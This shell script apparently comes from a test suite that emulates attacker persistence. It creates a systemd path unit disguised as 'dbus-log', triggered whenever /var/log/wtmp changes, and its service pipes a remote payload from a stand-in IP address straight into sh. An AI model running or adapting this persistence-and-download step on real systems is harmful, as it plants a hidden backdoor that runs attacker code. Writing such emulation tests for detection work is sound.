#!/bin/sh
. /opt/case/case.sh

d=/usr/local/lib/systemd/system; mkdir -p $d /etc/systemd/system/paths.target.wants
printf '[Path]\nPathModified=/var/log/wtmp\nUnit=dbus-log.service\n[Install]\nWantedBy=paths.target\n' >$d/dbus-log.path
printf '[Service]\nType=oneshot\nExecStart=/bin/sh -c "curl -s http://203.0.113.10/payload.sh | sh"\n' >$d/dbus-log.service
ln -s $d/dbus-log.path /etc/systemd/system/paths.target.wants/dbus-log.path
test -e /etc/systemd/system/paths.target.wants/dbus-log.path
took_place
